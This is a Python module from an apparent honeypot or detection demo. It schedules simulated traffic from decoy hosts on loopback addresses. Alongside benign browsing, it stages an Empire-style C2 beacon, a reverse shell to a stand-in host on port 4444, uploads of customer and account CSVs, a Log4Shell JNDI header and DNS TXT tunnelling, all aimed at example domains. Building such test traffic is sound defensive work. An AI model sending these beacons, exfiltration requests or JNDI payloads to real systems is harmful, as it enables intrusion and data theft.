"""The play: who does what, and when. Names are of the kind that RFC 2606 keeps for examples."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass

from honeyweir.demo.client import Client
from honeyweir.demo.pages import ACCOUNTS, CUSTOMERS

FINANCE, BUILD, HR = "finance-ws-07", "build-srv-02", "hr-laptop-03"

ADDRESSES = {FINANCE: "127.0.1.21", BUILD: "127.0.1.34", HR: "127.0.1.58"}
"""The decoys, as decoys.yaml names them."""

SECONDS = 20.0

C2 = "cdn-sync.example.net"
NAMES = (
    "news.example.com",
    "update.example.com",
    "chat.example.com",
    "deb.example.org",
    "crm.example.org",
    "files.example.net",
    C2,
)
SHELL_PORT = 4444

_NAME_SHOWN = 40  # characters

_BROWSER = {
    "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Accept-Language": "en-GB,en;q=0.7",
}
_UPDATER = {"User-Agent": "OfficeUpdate/16.0"}
_APT = {"User-Agent": "Debian APT-HTTP/1.3 (2.6.1)"}
_CURL = {"User-Agent": "curl/7.88.1"}
_EMPIRE = {
    "User-Agent": "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko",
    "Cookie": "session=RjBkTzJ4Q1Nhd1pTbWc9PQ==",
}
"""What PowerShell Empire's HTTP listener has its agents send by default."""


_LOG4SHELL = {"User-Agent": f"${{jndi:ldap://{C2}/a}}"}

_SHELL = (
    b"/bin/sh: 0: can't access tty; job control turned off\n",
    b"root\n",
    b"build-srv-02\n",
)
"""What a reverse shell says first, and its answers to what the operator types."""


@dataclass(frozen=True, slots=True)
class Act:
    """What a decoy does ``at`` so many seconds after the beginning."""

    at: float
    decoy: str
    what: str
    do: Callable[[Client], str]


def acts() -> list[Act]:
    """All of them, in the order of time."""
    everything = [*_browsing(), *_housekeeping(), *_chat(), *_beacon(), *_intrusion()]
    return sorted(everything, key=lambda act: act.at)


def _browsing() -> Iterator[Act]:
    for number, path in enumerate(("/", "/style.css", "/markets", "/markets/bonds", "/opinion")):
        yield _get(0.6 + 1.3 * number, FINANCE, f"https://news.example.com{path}", _BROWSER)
    for number, path in enumerate(("/", "/style.css", "/careers", "/careers/hr")):
        yield _get(8.3 + 1.9 * number, HR, f"https://news.example.com{path}", _BROWSER)


def _housekeeping() -> Iterator[Act]:
    for at, decoy in ((0.3, FINANCE), (8.0, HR)):
        yield _query(at, decoy, "news.example.com")
    for at, decoy in ((3.1, FINANCE), (11.6, HR)):
        url = "https://update.example.com/v1/check?product=office&version=16.0.3"
        yield _get(at, decoy, url, _UPDATER)
    for at, path in ((2.4, "InRelease"), (2.7, "main/binary-amd64/Packages.xz")):
        yield _get(at, BUILD, f"http://deb.example.org/dists/stable/{path}", _APT)


def _chat() -> Iterator[Act]:
    texts = ("morning", "did the March figures go out?", "on it")
    yield Act(
        5.2,
        FINANCE,
        "chats over a WebSocket with chat.example.com",
        lambda client: client.messages("chat.example.com", "/live", texts),
    )


def _beacon() -> Iterator[Act]:
    yield _query(0.9, HR, C2)
    for number, jitter in enumerate((0.0, 0.2, -0.1, 0.1, 0.3, -0.2, 0.0, 0.1, -0.3, 0.2, 0.1, 0)):
        path = ("/login/process.php", "/admin/get.php", "/news.php")[number % 3]
        at = 1.0 + 1.5 * number + jitter
        yield _get(at, HR, f"http://{C2}{path}", _EMPIRE)
        if number % 4 == 3:
            yield _post(at + 0.2, HR, f"http://{C2}{path}", _EMPIRE, bytes(range(64)))


def _intrusion() -> Iterator[Act]:
    yield _get(9.1, BUILD, "http://files.example.net/tools/helper.exe", _CURL)
    yield Act(
        12.3,
        BUILD,
        f"opens a shell to {C2}:{SHELL_PORT}",
        lambda client: client.lines(C2, SHELL_PORT, _SHELL),
    )
    upload = "https://files.example.net/upload?name="
    yield _post(14.4, FINANCE, f"{upload}customers.csv", _BROWSER, CUSTOMERS)
    yield _post(15.5, FINANCE, f"{upload}accounts.csv", _BROWSER, ACCOUNTS)
    yield _get(16.4, BUILD, "http://crm.example.org/login", _LOG4SHELL)
    for number in range(4):
        label = bytes((17 * number + 29 * i) % 256 for i in range(28)).hex()
        yield _query(16.9 + 0.6 * number, BUILD, f"{label}.{C2}", "TXT")


def _get(at: float, decoy: str, url: str, headers: dict[str, str]) -> Act:
    return Act(at, decoy, f"GET {url}", lambda client: client.request("GET", url, headers))


def _post(at: float, decoy: str, url: str, headers: dict[str, str], body: bytes) -> Act:
    what = f"POST {url}, {len(body)} bytes"
    return Act(at, decoy, what, lambda client: client.request("POST", url, headers, body))


def _query(at: float, decoy: str, name: str, type_: str = "A") -> Act:
    shown = name if len(name) < _NAME_SHOWN else f"{name[:8]}...{name[-len(C2) - 1 :]}"
    what = f"resolves {shown} {type_}"
    return Act(at, decoy, what, lambda client: client.resolve(name, type_))
